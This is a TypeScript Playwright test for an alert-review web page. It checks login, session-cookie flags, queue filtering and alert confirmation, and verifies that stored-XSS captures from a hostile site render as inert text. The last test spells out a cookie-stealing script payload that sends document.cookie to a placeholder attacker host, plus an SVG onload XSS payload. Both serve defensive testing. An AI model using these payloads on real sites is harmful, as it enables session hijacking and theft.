/**
 * The review page in a real Chromium: an analyst logs in, filters the queue, opens an alert, confirms it and
 * sees the status persist; a page full of stored-XSS payloads captured from a hostile site runs nothing
 * (no dialog, no request to the payload's host, no script or event-handler element in the DOM).
 */
import { type Browser, chromium, type Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserLaunchOptions } from '../../../chromium/index.ts';
import { getAlert } from '../../../db/index.ts';
import type { RunningReviewServer } from '../../../review/index.ts';
import { ANALYST, PAYLOAD_HOST } from '../../helpers/seed-review.ts';
import { createReviewFixture, type ReviewFixture } from '../../integration/review/review-fixture.ts';

let f: ReviewFixture;
let server: RunningReviewServer;
let browser: Browser;
let page: Page;
const dialogs: string[] = [];
const requests: string[] = [];
const consoleErrors: string[] = [];

beforeAll(async () => {
  f = await createReviewFixture();
  server = await f.server.start({ host: '127.0.0.1', port: 0 });
  browser = await chromium.launch(browserLaunchOptions('/usr/bin/chromium'));
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  // Nothing may leave for another host; anything that tries is recorded (and would fail the XSS test).
  await context.route('**/*', (route) =>
    route.request().url().startsWith(server.url) ? route.continue() : route.abort('blockedbyclient'),
  );
  page = await context.newPage();
  page.on('dialog', async (d) => {
    dialogs.push(d.message());
    await d.dismiss();
  });
  page.on('request', (r) => requests.push(r.url()));
  page.on('console', (m) => {
    if (m.type() === 'error') consoleErrors.push(m.text());
  });
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await f?.close();
});

describe('review page in Chromium', () => {
  it('sends a visitor without a session to the login page, then logs in', async () => {
    await page.goto(`${server.url}/alerts/${f.seeded.alerts.clone}`);
    expect(new URL(page.url()).pathname).toBe('/login');
    await page.fill('input[name=name]', ANALYST.name);
    await page.fill('input[name=password]', ANALYST.password);
    await page.click('button[type=submit]');
    await page.waitForURL(`**/alerts/${f.seeded.alerts.clone}`);
    expect(await page.textContent('h1')).toContain('maison-services2.test');
    const cookies = await page.context().cookies();
    const session = cookies.find((c) => c.name === 'phenix_session');
    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
    // the session cookie is invisible to page scripts (HttpOnly)
    expect(await page.evaluate(() => document.cookie)).not.toContain('phenix_session');
  });

  it('filters the queue by status and site', async () => {
    await page.goto(`${server.url}/alerts`);
    expect(await page.locator('tbody tr').count()).toBe(4);
    await page.selectOption('select[name=status]', 'open');
    await page.selectOption('select[name=site]', 'maison-services');
    await page.click('form.filters button[type=submit]');
    await page.waitForURL(/status=open/);
    const candidates = await page.locator('tbody tr td:nth-child(4)').allTextContents();
    expect(candidates).toEqual(['maison-services2.test', 'services-a-domicile.test']);
    await page.selectOption('select[name=status]', 'dismissed');
    await page.selectOption('select[name=site]', '');
    await page.click('form.filters button[type=submit]');
    await page.waitForURL(/status=dismissed/);
    expect(await page.locator('tbody tr td:nth-child(4)').allTextContents()).toEqual(['menage-express.test']);
  });

  it('opens an alert, confirms it with a note, and the status persists', async () => {
    await page.goto(`${server.url}/alerts?status=open`);
    await page.click('a:text("maison-services2.test")');
    await page.waitForURL(`**/alerts/${f.seeded.alerts.clone}`);
    expect(await page.locator('.contacts li.shared').count()).toBeGreaterThan(0);
    expect(await page.locator('.ad-pair').count()).toBe(2);
    expect(await page.locator('.ad-pair ins').first().textContent()).toBe('Villeurbanne');
    // screenshots load from this server (img-src 'self')
    const loaded = await page.$$eval('img.shot', (imgs) => imgs.map((i) => (i as HTMLImageElement).naturalWidth));
    expect(loaded.length).toBe(2);
    expect(loaded.every((w) => w > 0)).toBe(true);
    await page.fill('textarea[name=note]', 'Same phones and ads; reached by redirect from the seized seed.');
    await page.click('button[value=confirmed]');
    await page.waitForURL(/done=confirmed/);
    expect(await page.textContent('.flash')).toContain('Alert confirmed');
    await page.reload();
    expect(await page.locator('h1 + p .badge.status-confirmed').textContent()).toBe('confirmed');
    expect(await page.textContent('main')).toContain('decided by analyste.dupont');
    expect((await getAlert(f.t.handle.db, f.seeded.alerts.clone)).status).toBe('confirmed');
    await page.goto(`${server.url}/alerts?status=confirmed`);
    expect(await page.locator('tbody tr td:nth-child(4)').allTextContents()).toEqual(['maison-services2.test']);
  });

  it('runs nothing from a hostile capture: no dialog, no request to the payload host, no script in the DOM', async () => {
    dialogs.length = 0;
    requests.length = 0;
    await page.goto(`${server.url}/alerts/${f.seeded.alerts.hostile}`);
    await page.waitForLoadState('load');
    await page.waitForTimeout(500);
    const dom = await page.evaluate(() => ({
      scripts: document.querySelectorAll('script').length,
      handlers: [...document.querySelectorAll('*')].filter((e) =>
        [...e.attributes].some((a) => a.name.startsWith('on')),
      ).length,
      svgs: document.querySelectorAll('svg').length,
      jsLinks: [...document.querySelectorAll('a')].filter((a) =>
        a.getAttribute('href')?.trim().toLowerCase().startsWith('javascript:'),
      ).length,
      styles: document.querySelectorAll('style').length,
      text: document.body.textContent,
    }));
    expect(dom).toMatchObject({ scripts: 0, handlers: 0, svgs: 0, jsLinks: 0, styles: 0 });
    expect(dom.text).toContain(`<script>fetch('http://${PAYLOAD_HOST}/steal?c='+document.cookie)</script>`);
    expect(dom.text).toContain(`jardin"><svg onload="alert('xss-svg')">`);
    // the captured HTML opened as "view source": plain text, sandboxed
    const sourceHref = await page.getAttribute('a:text("HTML (as text)")', 'href');
    const res = await page.goto(`${server.url}${sourceHref}`);
    expect(res?.headers()['content-type']).toBe('text/plain; charset=utf-8');
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => document.querySelectorAll('script').length)).toBe(0);
    expect(dialogs).toEqual([]);
    expect(requests.filter((u) => u.includes(PAYLOAD_HOST))).toEqual([]);
    expect(requests.filter((u) => !u.startsWith(server.url))).toEqual([]);
  });
});
